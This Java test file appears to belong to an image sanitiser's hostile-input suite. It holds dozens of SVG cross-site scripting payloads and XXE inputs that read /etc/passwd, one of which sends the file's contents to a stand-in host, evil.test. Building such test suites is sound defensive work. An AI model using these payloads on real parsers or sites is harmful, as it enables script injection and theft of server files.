package dev.darkroom.hostile.table.cases;

import static dev.darkroom.hostile.file.SvgText.ROOT;
import static dev.darkroom.hostile.file.SvgText.drawing;
import static dev.darkroom.hostile.file.SvgText.utf8;
import static dev.darkroom.hostile.file.SvgText.withSubset;
import static dev.darkroom.hostile.table.ExpectedOutcome.disallowed;
import static dev.darkroom.hostile.table.ExpectedOutcome.malformed;
import static dev.darkroom.hostile.table.ExpectedOutcome.renditions;
import static dev.darkroom.hostile.table.ExpectedOutcome.unrecognized;
import static dev.darkroom.hostile.table.ExpectedOutcome.unsupported;

import dev.darkroom.core.Format;
import dev.darkroom.hostile.file.ByteWriter;
import dev.darkroom.hostile.file.ValidPictures;
import dev.darkroom.hostile.table.ExpectedOutcome;
import dev.darkroom.hostile.table.HostileCase;
import dev.darkroom.hostile.table.RenditionSafetyCheck;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.function.Supplier;
import java.util.stream.Stream;

/** Cases of SVG that would read, fetch or run something. The output must not have active content: see {@link RenditionSafetyCheck}. */
final class SvgCases {
    private static final String[] TRICKS = {
        "<script>alert(1)</script>",
        "<script xlink:href='http://evil.test/x.js'/>",
        "<s:script xmlns:s='http://www.w3.org/2000/svg'>alert(1)</s:script>",
        "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>",
        "<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject>",
        "<foreignobject><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:alert(1)'/></foreignobject>",
        "<rect width='9' height='9' onclick='alert(1)'/>",
        "<rect width='9' height='9' ONLOAD='alert(1)'/>",
        "<rect width='9' height='9' oNmOuSeOvEr='alert(1)'/>",
        "<rect width='9' height='9' onload='&#97;lert(1)'/>",
        "<image href='http://evil.test/x.png' onerror='&#x61;&#x6c;ert(1)' width='9' height='9'/>",
        "<a href='javascript:alert(1)'><rect width='9' height='9'/></a>",
        "<a xlink:href='java&#9;script:alert(1)'><rect width='9' height='9'/></a>",
        "<a xlink:href='&#10;java&#13;scr&#x9;ipt:alert(1)'><rect width='9' height='9'/></a>",
        "<a xlink:href='&#106;avascript:alert(1)'/>",
        "<a href='JaVaScRiPt:alert(1)'><rect width='9' height='9'/></a>",
        "<style>@import 'http://evil.test/x.css';</style>",
        "<style>@\\69mport 'http://evil.test/x.css';</style>",
        "<style>rect{fill:u\\72l(http://evil.test/x)}</style><rect width='9' height='9'/>",
        "<style>rect{fill:\\75\\000072 l('http://evil.test/x')}</style><rect width='9' height='9'/>",
        "<style>rect{background:url(data:image/svg+xml,%3Csvg onload=alert(1)%3E)}</style><rect width='9' height='9'/>",
        "<style><![CDATA[</style><script>alert(1)</script>]]></style>",
        "<rect width='9' height='9' style='fill:url(http://evil.test/x)'/>",
        "<rect width='9' height='9' style='behavior:url(#default);-moz-binding:url(http://evil.test/x)'/>",
        "<rect width='9' height='9' style='width:expression(alert(1))'/>",
        "<rect width='9' height='9' fill='url(http://evil.test/x#y)'/>",
        "<rect width='9' height='9' filter='url(//evil.test/x#y)'/>",
        "<filter id='f'><feImage href='http://evil.test/x'/></filter><rect width='9' height='9' filter='url(#f)'/>",
        "<use href='http://evil.test/x.svg#a'/>",
        "<use href='data:image/svg+xml,&lt;svg id=&quot;x&quot; onload=&quot;alert(1)&quot;/&gt;#x'/>",
        "<image href='file:///etc/passwd' width='9' height='9'/>",
        "<image href='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+' width='9' height='9'/>",
        "<image href='data:text/html,&lt;script>alert(1)&lt;/script>' width='9' height='9'/>",
        "<a id='a'><animate attributeName='href' values='javascript:alert(1)'/><rect width='9' height='9'/></a>",
        "<animate href='#a' attributeName='xlink:href' to='javascript:alert(1)'/>",
        "<set attributeName='onmouseover' to='alert(1)'/>",
        "<handler type='text/javascript' ev:event='load' xmlns:ev='http://www.w3.org/2001/xml-events'>alert(1)</handler>",
        "<metadata><x onload='alert(1)'/></metadata>",
        "<title><script>alert(1)</script></title>",
        "<text><tspan onfocus='alert(1)'>x</tspan></text>",
        "<?xml-stylesheet href='http://evil.test/x.xsl'?><rect width='9' height='9'/>",
        "<!--><script>alert(1)</script>--><rect width='9' height='9'/>",
        "<rect width='9' height='9' xml:base='http://evil.test/' fill='url(#x)'/>",
        "<a href='vbscript:alert(1)'><rect width='9' height='9'/></a>",
        "<a href=' &#xA0;javascript:alert(1)'><rect width='9' height='9'/></a>",
        "<a href='&#xAD;java&#x200B;script:alert(1)'><rect width='9' height='9'/></a>",
        "<a href='//evil.test/x' target='_blank' ping='http://evil.test/'><rect width='9' height='9'/></a>",
        "<a><animate attributeName='href' from='#' to='java&#9;script:alert(1)'/><rect width='9' height='9'/></a>",
        "<a><animate attributeName='HREF' by='javascript:alert(1)'/><set attributeName='xlink:href' to='//evil.test'/></a>",
        "<rect width='9' height='9'><animate attributeName='x' begin='0s' onbegin='alert(1)' onend='&#97;lert(1)'/></rect>",
        "<animateMotion><mpath href='http://evil.test/x.svg#p'/></animateMotion>",
        "<discard href='http://evil.test/x'/>",
        "<textPath href='http://evil.test/x#p'>x</textPath><tref href='http://evil.test/x#t'/>",
        "<linearGradient id='g' href='http://evil.test/x#g'/><rect width='9' height='9' fill='url(#g)'/>",
        "<pattern id='p' xlink:href='//evil.test/x#p'/><rect width='9' height='9' fill='url(#p)'/>",
        "<font><font-face><font-face-src><font-face-uri href='http://evil.test/f'/></font-face-src></font-face></font>",
        "<cursor href='http://evil.test/c'/><color-profile href='http://evil.test/p'/>",
        "<x:link xmlns:x='http://www.w3.org/1999/xhtml' rel='stylesheet' href='http://evil.test/x.css'/>",
        "<x:meta xmlns:x='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;url=http://evil.test/'/>",
        "<x:embed xmlns:x='http://www.w3.org/1999/xhtml' src='http://evil.test/x.swf'/>",
        "<switch><foreignObject requiredExtensions='http://www.w3.org/1999/xhtml'><p onclick='alert(1)'/></foreignObject></switch>",
        "<style>@font-face{font-family:x;src:url(http://evil.test/f)}</style><text y='9' font-family='x'>x</text>",
        "<style>rect{fill:url('\\68ttp://evil.te\\73t/')}</style><rect width='9' height='9'/>",
        "<style>rect{fill:url(#a) url(http://evil.test/x);mask-image:image-set('http://evil.test/x' 1x)}</style><rect/>",
        "<style>rect{cursor:url(http://evil.test/x),auto}/*</style><script>alert(1)</script>*/</style>",
        "<style type='text/css' media='x'>&lt;/style>&lt;script>alert(1)&lt;/script></style>",
        "<style>a{b:c}&#x3c;/style&#x3e;&#x3c;script&#x3e;alert(1)</style>",
        "<image width='9' height='9' href='data:image/svg+xml;base64,"
                + base64("<svg xmlns='http://www.w3.org/2000/svg'><image href='data:image/svg+xml;base64,"
                        + base64("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>") + "'/></svg>")
                + "'/>",
        "<image width='9' height='9' href='data:image/png,&lt;script>alert(1)&lt;/script>'/>",
        "<image width='9' height='9' href='DATA:Image/Svg+Xml,%3Csvg%20onload=%22alert(1)%22/%3E'/>",
        "<image width='9' height='9' href='\\\\evil.test\\x.png'/><image href='ftp://evil.test/x'/>",
        "<image width='9' height='9' href='jar:http://evil.test/x.jar!/x.png'/><image href='netdoc:/etc/passwd'/>",
    };

    private static final String[] MARKS = {"alert", "evil.test", "passwd", "root:", "script"};

    private SvgCases() {}

    static List<HostileCase> all() {
        return List.of(
                rows(
                        "scripts, handlers, addresses and animations",
                        renditions().or(malformed()).without(MARKS),
                        () -> Stream.of(TRICKS).map(trick -> drawing(trick))),
                row(
                        "javascript: behind control characters that XML 1.1 allows",
                        renditions().or(malformed()).or(unsupported("")).without(MARKS),
                        () -> utf8(
                                "<?xml version='1.1'?>" + ROOT
                                        + "<a xlink:href='&#1;java&#2;script:alert(1)'><rect width='9' height='9'/></a></svg>")),
                row(
                        "javascript: behind control characters that XML 1.0 forbids",
                        malformed(),
                        () -> drawing("<a xlink:href='&#1;javascript:alert(1)'><rect width='9' height='9'/></a>")),
                rows(
                        "handlers and addresses from the document type",
                        renditions().or(malformed()).or(disallowed()).without(MARKS),
                        () -> Stream.of(
                                withSubset("<!ATTLIST rect onload CDATA 'alert(1)'>", "<rect width='9' height='9'/>"),
                                withSubset(
                                        "<!ATTLIST image xlink:href CDATA 'http://evil.test/x'>",
                                        "<image width='9' height='9'/>"),
                                withSubset(
                                        "<!ENTITY x '<script>alert(1)</script>'>", "&x;<rect width='9' height='9'/>"),
                                withSubset(
                                        "<!ENTITY x 'javascript:alert(1)'>",
                                        "<a xlink:href='&x;'><rect width='9' height='9'/></a>"),
                                withSubset(
                                        "<!ENTITY x '&#38;#60;script>alert(1)&#38;#60;/script>'>",
                                        "&x;<rect width='9' height='9'/>"))),
                row(
                        "XXE of a file",
                        disallowed(),
                        () -> withSubset("<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<text y='9'>&x;</text>")),
                row(
                        "XXE of an address",
                        disallowed(),
                        () -> withSubset("<!ENTITY x SYSTEM 'http://evil.test/'>", "<text y='9'>&x;</text>")),
                row(
                        "XXE through a parameter entity",
                        malformed().or(renditions()).without(MARKS),
                        () -> withSubset(
                                "<!ENTITY % x SYSTEM 'http://evil.test/x.dtd'>%x;", "<rect width='9' height='9'/>")),
                rows(
                        "XXE by other means",
                        renditions().or(malformed()).or(disallowed()).without(MARKS),
                        () -> Stream.of(
                                withSubset("<!ENTITY x PUBLIC 'x' 'file:///etc/passwd'>", "<text y='9'>&x;</text>"),
                                withSubset(
                                        "<!ENTITY % f SYSTEM 'file:///etc/passwd'><!ENTITY % e \"<!ENTITY &#37; x"
                                                + " SYSTEM 'http://evil.test/?%f;'>\">%e;%x;",
                                        "<rect width='9' height='9'/>"),
                                withSubset(
                                        "<!NOTATION n SYSTEM 'http://evil.test/'><!ENTITY x SYSTEM 'http://evil.test/' NDATA n>",
                                        "<rect width='9' height='9' class='x'/>"),
                                utf8("<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'file:///etc/passwd'"
                                        + " [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>" + ROOT
                                        + "<text y='9'>&x;</text></svg>"))),
                row(
                        "external document type",
                        renditions().without(MARKS),
                        () -> utf8("<?xml version='1.0'?><!DOCTYPE svg SYSTEM 'http://evil.test/x.dtd'>" + ROOT
                                + "</svg>")),
                row(
                        "markup that is text and stays text",
                        renditions().without("<script", "<img", "]]>"),
                        () -> drawing("<text y='9'>]]&gt;&lt;script>alert(1)&lt;/script></text>"
                                + "<rect width='9' height='9' class='\"&gt;&lt;img onerror=alert(1)&gt;'/>")),
                row(
                        "XInclude",
                        renditions().or(malformed()).without(MARKS),
                        () -> drawing(
                                "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>")),
                row("UTF-16", renditions().or(malformed()).without(MARKS), () -> encoded(StandardCharsets.UTF_16)),
                row(
                        "UTF-16 that says it is UTF-8",
                        renditions().or(malformed()).without(MARKS),
                        () -> encoded(StandardCharsets.UTF_16LE)),
                rows(
                        "UTF-16, UTF-32 and EBCDIC, each by its name",
                        renditions()
                                .or(malformed())
                                .or(unsupported(""))
                                .or(unrecognized())
                                .without(MARKS),
                        () -> Stream.of("UTF-16", "UTF-16LE", "UTF-16BE", "UTF-32", "UTF-32LE", "IBM037", "ISO-2022-JP")
                                .map(SvgCases::named)),
                row(
                        "UTF-7 that is not announced",
                        renditions().or(malformed()).without(MARKS),
                        () -> drawing("+ADw-script+AD4-alert(1)+ADw-/script+AD4-<rect width='9' height='9'/>")),
                row(
                        "UTF-7",
                        unsupported("UTF-7"),
                        () -> utf8("<?xml version='1.0' encoding='UTF-7'?>" + ROOT
                                + "+ADw-script+AD4-alert(1)+ADw-/script+AD4-</svg>")),
                row(
                        "an encoding that nobody has",
                        unsupported("EVIL"),
                        () -> utf8("<?xml version='1.0' encoding='EVIL'?>" + ROOT + "</svg>")),
                row(
                        "overlong UTF-8",
                        malformed(),
                        () -> ByteWriter.join(
                                utf8(ROOT), new byte[] {(byte) 0xC0, (byte) 0xBC, 's', '>'}, utf8("</svg>"))),
                row(
                        "zero bytes",
                        malformed().or(unrecognized()),
                        () -> ByteWriter.join(utf8(ROOT), new byte[9], utf8("</svg>"))),
                row(
                        "HTML behind the drawing",
                        malformed(),
                        () -> ByteWriter.join(ValidPictures.svg(), utf8("<script>alert(1)</script>"))),
                row("HTML that begins as HTML", disallowed(Format.HTML), () -> utf8("<html>" + ROOT + "</svg></html>")),
                row(
                        "a JPEG inside, with GPS in it",
                        renditions().without("LEAK"),
                        () -> drawing("<image width='9' height='9' href='data:image/jpeg;base64,"
                                + Base64.getEncoder().encodeToString(MetadataCases.jpeg())
                                + "'/>")),
                rows(
                        "pictures inside that are none",
                        renditions().or(malformed()),
                        () -> Stream.of("iVBORw0KGgo=", "/9j/", "R0lGODlh", "UklGRv///39XRUJQ", "AAAA", "====", "")
                                .map(data -> drawing(
                                        "<image width='9' height='9' href='data:image/png;base64," + data + "'/>"))),
                rows(
                        "SVG truncated at every byte",
                        unrecognized().or(malformed()),
                        () -> HostileCase.beginnings(ValidPictures.svg())));
    }

    private static HostileCase row(String name, ExpectedOutcome expected, Supplier<byte[]> input) {
        return HostileCase.row(name, expected, input).acceptingSvg();
    }

    private static HostileCase rows(String name, ExpectedOutcome expected, Supplier<Stream<byte[]>> inputs) {
        return HostileCase.rows(name, expected, inputs).acceptingSvg();
    }

    private static byte[] named(String encoding) {
        return ("<?xml version='1.0' encoding='" + encoding + "'?>" + ROOT
                        + "<script>alert(1)</script><rect width='9' height='9' onclick='alert(1)'/></svg>")
                .getBytes(Charset.forName(encoding));
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(utf8(text));
    }

    private static byte[] encoded(Charset charset) {
        return ("<?xml version='1.0' encoding='UTF-8'?>" + ROOT
                        + "<script>alert(1)</script><rect width='9' height='9'/></svg>")
                .getBytes(charset);
    }
}
